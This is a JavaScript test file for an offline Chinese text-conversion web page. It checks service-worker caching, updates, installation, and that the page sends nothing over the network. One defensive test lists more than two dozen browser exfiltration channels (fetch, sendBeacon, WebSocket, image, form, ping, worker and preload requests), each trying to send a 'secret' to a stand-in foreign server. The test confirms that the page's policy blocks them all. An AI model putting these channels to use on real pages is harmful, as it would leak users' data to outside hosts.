// The page without a network, and what it sends: nothing.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SITE, atHome, offlineReady, reads, serve, settle, type, visit } from './house.js';

const home = atHome();

/** @param {import('node:test').TestContext} t @param {string} [folder] @param {Record<string, string>} [headers] */
async function hosted(t, folder, headers) {
  const host = await serve(folder, headers);
  t.after(() => host.close());
  return host;
}

test('with the server dead and no network, a reload works, and so does everything else', async (t) => {
  const host = await hosted(t);
  const { context, page, wrong } = await visit(home.browser, host.url);
  t.after(() => context.close());
  await offlineReady(page);
  host.down = true;
  await context.setOffline(true);
  const before = host.log.length;
  await page.reload();
  await page.waitForSelector('body:not(.waiting)');
  await type(page, '离线,也能用', '离线，也能用');
  await page.selectOption('#variant', 's2t');
  await reads(page, '離線，也能用');
  assert.ok((await page.locator('#keywords tbody tr').count()) > 0);
  await page.selectOption('#language', 'en');
  await page.waitForFunction(() => document.documentElement.lang === 'en');
  await page.click('#samples summary');
  await page.click('#samples li >> nth=3 >> button');
  await page.waitForFunction(() => document.querySelector('#result')?.textContent?.includes('Alice'));
  // 汉字,标点 in GB18030: the decoder of old encodings is there too.
  await page.setInputFiles('#file', { name: 'old.txt', mimeType: 'text/plain', buffer: Buffer.from('babad7d62cb1eab5e3', 'hex') });
  await page.waitForFunction(() => document.querySelector('#file-name')?.textContent === 'old.txt');
  assert.deepEqual(wrong.filter((line) => !/ERR_INTERNET_DISCONNECTED|sw\.js/.test(line)), []);
  assert.deepEqual(host.log.slice(before).filter((line) => !line.endsWith('/sw.js')), [], 'only the look for an update knocks');
  // A plain text is no page of ours: the browser may ask for an icon of it by itself.
  await page.goto(`${host.url}licences.txt`);
  assert.match(await page.textContent('body') ?? '', /OpenCC/);
});

test('once it works offline, no use of the page makes a request', async (t) => {
  const host = await hosted(t);
  const { context, page, requests } = await visit(home.browser, host.url);
  t.after(() => context.close());
  await offlineReady(page);
  const asked = host.log.length;
  await page.reload();
  await page.waitForSelector('body:not(.waiting)');
  // Each load of the page looks for an update once, and for nothing else.
  while (host.log.length === asked) await page.waitForTimeout(50);
  assert.deepEqual(host.log.slice(asked), ['GET /sw.js']);
  await page.waitForTimeout(500);
  const before = host.log.length;
  await type(page, '秘密,不外传', '秘密，不外传');
  await page.selectOption('#variant', 't2s');
  await page.click('#options-open');
  await page.click('#help-open');
  await page.keyboard.press('Escape');
  await page.selectOption('#language', 'zh-Hant');
  await page.click('#samples summary');
  await page.click('#samples li >> nth=1 >> button');
  await page.waitForTimeout(500);
  assert.deepEqual(host.log.slice(before), []);
  assert.deepEqual(requests.filter((url) => !url.startsWith(host.url) && !url.startsWith('blob:')), [], 'no foreign request, from the first on');
});

/** Every way out that a script of ours could try, as the browser knows it; navigation and WebRTC, which no page can close, are not among them. */
const WAYS_OUT = {
  page(/** @type {string} */ foreign) {
    const insert = (/** @type {string} */ name, /** @type {object} */ properties) => document.body.append(Object.assign(document.createElement(name), properties));
    const link = (/** @type {string} */ rel) => document.head.append(Object.assign(document.createElement('link'), { rel, href: `${foreign}${rel}`, as: 'image' }));
    const media = document.createElement('video');
    const form = Object.assign(document.createElement('form'), { action: `${foreign}form`, method: 'post', target: 'nowhere' });
    return [
      () => fetch(`${foreign}fetch?secret`, { mode: 'no-cors' }),
      () => fetch(`${foreign}keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
      () => fetch('./nothing-here?secret'),
      () => fetch('./app.js?secret', { method: 'POST', body: 'secret' }),
      () => { const request = new XMLHttpRequest(); request.open('POST', `${foreign}xhr`); request.send('secret'); },
      () => navigator.sendBeacon(`${foreign}beacon`, 'secret'),
      () => navigator.sendBeacon('./beacon', 'secret'),
      () => new WebSocket(foreign.replace('http', 'ws')),
      () => new EventSource(`${foreign}events`),
      () => { new Image().src = `${foreign}image?secret`; },
      () => insert('iframe', { src: `${foreign}frame` }),
      () => insert('object', { data: `${foreign}object` }),
      () => insert('embed', { src: `${foreign}embed` }),
      () => { media.append(Object.assign(document.createElement('track'), { src: `${foreign}track`, default: true })); media.src = `${foreign}video`; media.load(); },
      () => { document.body.append(form); form.submit(); },
      () => insert('a', { href: '#', ping: `${foreign}ping` }),
      () => /** @type {HTMLElement} */ (document.querySelector('a[ping]')).click(),
      () => { document.body.style.backgroundImage = `url(${foreign}background)`; },
      () => new FontFace('x', `url(${foreign}font)`).load(),
      () => insert('script', { src: `${foreign}script` }),
      () => import(`${foreign}module`),
      () => new Worker(`${foreign}worker`),
      () => new SharedWorker(`${foreign}shared`),
      ...['stylesheet', 'preload', 'prefetch', 'modulepreload', 'icon', 'manifest'].map((rel) => () => link(rel)),
    ];
  },
  worker(/** @type {string} */ foreign) {
    return [
      () => fetch(`${foreign}worker-fetch?secret`, { mode: 'no-cors' }),
      () => { const request = new XMLHttpRequest(); request.open('POST', `${foreign}worker-xhr`); request.send('secret'); },
      () => new WebSocket(foreign.replace('http', 'ws')),
      () => new EventSource(`${foreign}worker-events`),
      () => import(`${foreign}worker-module`),
      () => fetch('./nothing-here?secret-of-the-worker'),
    ];
  },
};

test('even a script gone wrong gets nothing out, from the page or from a worker', async (t) => {
  const host = await hosted(t);
  const stranger = await hosted(t);
  const { context, page } = await visit(home.browser, host.url);
  t.after(() => context.close());
  await offlineReady(page);
  await page.reload();
  await page.waitForSelector('body:not(.waiting)');
  await type(page, '秘密,在此', '秘密，在此');
  const before = host.log.length;
  const attempt = `async (ways) => { for (const way of ways) try { await Promise.race([way(), new Promise((done) => setTimeout(done, 300))]); } catch { /* as it should be */ } }`;
  const tried = (/** @type {(foreign: string) => unknown} */ ways) => `(${attempt})(({ ${ways} }).${ways.name}(${JSON.stringify(stranger.url)}))`;
  assert.equal(page.workers().length, 1);
  await page.workers()[0].evaluate(tried(WAYS_OUT.worker));
  await page.evaluate(tried(WAYS_OUT.page));
  await page.waitForTimeout(500);
  assert.deepEqual(stranger.log, []);
  assert.deepEqual(host.log.slice(before), []);
});

test('the worker’s own script carries a policy that keeps it at home', async (t) => {
  const host = await hosted(t);
  const { context, page } = await visit(home.browser, host.url);
  t.after(() => context.close());
  await offlineReady(page);
  const policy = await page.evaluate(async () => (await fetch('./pkg/src/worker-host.js')).headers.get('content-security-policy'));
  assert.match(policy ?? '', /default-src 'none'.*connect-src 'self'/);
});

test('a copy in any sub-folder works, online and offline, beside another copy', async (t) => {
  const folder = await mkdtemp(join(tmpdir(), 'zhtidy-'));
  t.after(() => rm(folder, { recursive: true }));
  await cp(SITE, join(folder, 'a/b'), { recursive: true });
  await cp(SITE, join(folder, 'c'), { recursive: true });
  const host = await hosted(t, folder);
  const { context, page } = await visit(home.browser, `${host.url}a/b/`);
  t.after(() => context.close());
  await offlineReady(page);
  const other = await context.newPage();
  await other.goto(`${host.url}c/`);
  await offlineReady(other);
  assert.equal(await page.evaluate(async () => (await caches.keys()).length), 2, 'each keeps its own files');
  host.down = true;
  await context.setOffline(true);
  for (const each of [page, other]) {
    await each.reload();
    await each.waitForSelector('body:not(.waiting)');
    await type(each, '你好,世界', '你好，世界');
  }
  assert.deepEqual(host.log.filter((line) => !/^GET \/(a\/b|c)\//.test(line)), [], 'nothing is asked for outside the folders');
});

test('a new version waits until the user takes it up; then the old files are gone', async (t) => {
  const { folder, host, context, page } = await deployed(t);
  await change(folder, 'i18n/zh-Hans.json', '"run": "整理"', '"run": "开始"');
  await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.update());
  await page.waitForSelector('#update:not([hidden])');
  assert.equal(await page.textContent('#run'), '整理');
  await page.click('#update-now');
  await page.waitForFunction(() => document.querySelector('#run')?.textContent === '开始');
  await reloadedAlone(host, page);
  await page.waitForFunction(() => document.querySelector('#run')?.textContent === '开始');
  assert.equal(await page.evaluate(async () => (await caches.keys()).length), 1);
});

test('a new version is found though the host lets files be kept, and none of the old files gets into it', async (t) => {
  const { folder, host, context, page } = await deployed(t, { 'cache-control': 'max-age=600' });
  await change(folder, 'i18n/zh-Hans.json', '"run": "整理"', '"run": "开始"');
  await page.reload();
  await page.click('#update-now');
  await page.waitForFunction(() => document.querySelector('#run')?.textContent === '开始');
  await reloadedAlone(host, page);
  await page.waitForFunction(() => document.querySelector('#run')?.textContent === '开始');
});

test('a new version with a file missing changes nothing', async (t) => {
  const { folder, host, context, page } = await deployed(t);
  await change(folder, 'app.js', '// The page', '// A page');
  await rm(join(folder, 'i18n.js'));
  await page.evaluate(async () => {
    const registration = await navigator.serviceWorker.getRegistration();
    await registration?.update();
    const worker = registration?.installing;
    if (worker) await new Promise((done) => worker.addEventListener('statechange', () => worker.state === 'redundant' && done(undefined)));
  });
  assert.equal(await page.evaluate(async () => (await caches.keys()).length), 1, 'what was stored in part is gone again');
  assert.ok(await page.isHidden('#update'));
  await reloadedAlone(host, page);
  await page.waitForSelector('body:not(.waiting)');
  await type(page, '你好,世界', '你好，世界');
  assert.equal(await page.getAttribute('#offline', 'data-state'), 'ready');
});

test('where nothing can be stored, the page says so and works', async (t) => {
  const host = await hosted(t);
  const { context, page } = await visit(home.browser, host.url, { serviceWorkers: 'block' });
  t.after(() => context.close());
  await type(page, '你好,世界', '你好，世界');
  assert.notEqual(await page.getAttribute('#offline', 'data-state'), 'ready');
});

test('the store being full is told, and the page works', async (t) => {
  const host = await hosted(t);
  const context = await home.browser.newContext({ locale: 'zh-CN' });
  t.after(() => context.close());
  const page = await context.newPage();
  await page.goto(`${host.url}licences.txt`);
  const client = await context.newCDPSession(page);
  await client.send('Storage.overrideQuotaForOrigin', { origin: host.url, quotaSize: 100_000 });
  await page.goto(host.url);
  await page.waitForSelector('#offline[data-state="failed"]', { timeout: 20_000 });
  assert.match(await page.getAttribute('#offline', 'title') ?? '', /空间/);
  await type(page, '你好,世界', '你好，世界');
});

test('with sw.js gone from the host, what is stored goes on working', async (t) => {
  const { folder, host, page } = await deployed(t);
  await rm(join(folder, 'sw.js'));
  await page.reload();
  await page.waitForSelector('body:not(.waiting)');
  await type(page, '你好,世界', '你好，世界');
  host.down = true;
  await page.reload();
  await page.waitForSelector('body:not(.waiting)');
  await type(page, '你好,世界', '你好，世界');
  await page.waitForSelector('#offline[data-state="ready"]');
});

test('a page that is open while another takes the new version up goes on, and says so', async (t) => {
  const { folder, host, context, page } = await deployed(t);
  const other = await context.newPage();
  await other.goto(host.url);
  await other.waitForSelector('body:not(.waiting)');
  await type(other, '还没,存', '还没，存');
  await change(folder, 'i18n/zh-Hans.json', '"run": "整理"', '"run": "开始"');
  await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.update());
  await page.click('#update-now');
  await page.waitForFunction(() => document.querySelector('#run')?.textContent === '开始');
  await other.waitForSelector('#moved:not([hidden])');
  assert.equal(await other.inputValue('#input'), '还没,存', 'its text is not taken away');
  await type(other, '还能,用', '还能，用');
});

test('the kill switch in the place of sw.js takes everything off the device', async (t) => {
  const { folder, page } = await deployed(t);
  await cp(join(folder, 'kill.js'), join(folder, 'sw.js'));
  await change(folder, 'i18n/zh-Hans.json', '"run": "整理"', '"run": "开始"', false);
  await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.update());
  // The page loads again, from the network; and would be stored again, were the switch not still there.
  await page.waitForFunction(() => document.querySelector('#run')?.textContent === '开始', undefined, { timeout: 20_000 });
  assert.equal(await page.evaluate(async () => (await caches.keys()).length), 0);
});

test('what is shared to the installed page is taken, and goes nowhere else', async (t) => {
  const host = await hosted(t);
  const { context, page } = await visit(home.browser, host.url);
  t.after(() => context.close());
  await offlineReady(page);
  const before = host.log.length;
  const frame = await context.newPage();
  // A navigation by POST, as the system makes it.
  await frame.route('**/start', (route) => route.fulfill({ contentType: 'text/html', body: `<form method="post" enctype="multipart/form-data" action="${host.url}share"><textarea name="text">分享,来的</textarea></form><script>document.forms[0].submit()</script>` }));
  await frame.goto('http://share.example/start');
  await frame.waitForURL(host.url);
  await reads(frame, '分享，来的');
  assert.deepEqual(host.log.slice(before).filter((line) => !line.endsWith('/sw.js')), []);
  assert.equal(await frame.evaluate(() => location.href), host.url);
});

test('files that the system opens with the installed page are read', async (t) => {
  const host = await hosted(t);
  const context = await home.browser.newContext({ locale: 'zh-CN', serviceWorkers: 'block' });
  t.after(() => context.close());
  await context.addInitScript(() => {
    const queue = { setConsumer: (/** @type {unknown} */ consumer) => (/** @type {any} */ (window).launched = consumer) };
    Object.defineProperty(window, 'launchQueue', { value: queue });
  });
  const page = await context.newPage();
  await page.goto(host.url);
  await page.waitForFunction(() => /** @type {any} */ (window).launched);
  await page.evaluate(() => /** @type {any} */ (window).launched({ files: [{ getFile: async () => new File(['打开,来的'], '来.txt') }] }));
  await reads(page, '打开，来的');
  assert.equal(await page.textContent('#file-name'), '来.txt');
});

test('the installed page asks the browser to keep what it has stored; a page in a tab does not', async (t) => {
  const host = await hosted(t);
  for (const [mode, wanted] of /** @type {const} */ ([['standalone', 1], ['browser', 0]])) {
    const context = await home.browser.newContext({ locale: 'zh-CN' });
    t.after(() => context.close());
    const page = await context.newPage();
    await page.addInitScript((shown) => {
      /** @type {any} */ (window).asked = 0;
      navigator.storage.persist = async () => ++(/** @type {any} */ (window).asked) > 0;
      const media = matchMedia.bind(window);
      window.matchMedia = (query) => media(query.replace(`(display-mode: ${shown})`, 'all'));
    }, mode);
    await page.goto(host.url);
    await offlineReady(page);
    assert.equal(await page.evaluate(() => /** @type {any} */ (window).asked), wanted, mode);
  }
});

test('browsers find nothing against installing the page', async (t) => {
  const host = await hosted(t);
  const profile = await mkdtemp(join(tmpdir(), 'zhtidy-'));
  const context = await settle(profile);
  t.after(async () => {
    await context.close();
    await rm(profile, { recursive: true });
  });
  const page = await context.newPage();
  await page.goto(host.url);
  await offlineReady(page);
  const client = await context.newCDPSession(page);
  assert.deepEqual(await client.send('Page.getInstallabilityErrors'), { installabilityErrors: [] });
});

test('Python’s own server is host enough, in any sub-folder', async (t) => {
  const folder = await mkdtemp(join(tmpdir(), 'zhtidy-'));
  t.after(() => rm(folder, { recursive: true }));
  await cp(SITE, join(folder, 'tools/zhtidy'), { recursive: true });
  const python = spawn('python3', ['-u', '-m', 'http.server', '--bind', '127.0.0.1', '--directory', folder, '0']);
  t.after(() => python.kill());
  const port = await new Promise((found, lost) => {
    python.stdout.on('data', (said) => found(/port (\d+)/.exec(String(said))?.[1]));
    python.on('error', lost);
  });
  const { context, page } = await visit(home.browser, `http://127.0.0.1:${port}/tools/zhtidy/`);
  t.after(() => context.close());
  await offlineReady(page);
  python.kill();
  await context.setOffline(true);
  await page.reload();
  await page.waitForSelector('body:not(.waiting)');
  await type(page, '你好,世界', '你好，世界');
});

/** Loads the page again when its host is dead and there is no network. @param {{ down: boolean }} host @param {import('playwright-core').Page} page */
async function reloadedAlone(host, page) {
  host.down = true;
  await page.context().setOffline(true);
  await page.reload();
}

/** A copy of the site that can be changed, visited until it works offline. @param {import('node:test').TestContext} t @param {Record<string, string>} [headers] */
async function deployed(t, headers) {
  const folder = await mkdtemp(join(tmpdir(), 'zhtidy-'));
  t.after(() => rm(folder, { recursive: true }));
  await cp(SITE, folder, { recursive: true });
  const host = await hosted(t, folder, headers);
  const { context, page } = await visit(home.browser, host.url);
  t.after(() => context.close());
  await offlineReady(page);
  return { folder, host, context, page };
}

/** Deploys a change, as a new version. @param {string} folder @param {string} file @param {string} old @param {string} text @param {boolean} [version] whether sw.js has one */
async function change(folder, file, old, text, version = true) {
  for (const [path, from, to] of [[file, old, text], ...(version ? [['sw.js', /const VERSION = '(\w+)'/, "const VERSION = 'newer'"]] : [])]) {
    const source = await readFile(join(folder, String(path)), 'utf8');
    const changed = source.replace(from, String(to));
    assert.notEqual(changed, source, `${path} is as expected`);
    await writeFile(join(folder, String(path)), changed);
  }
}
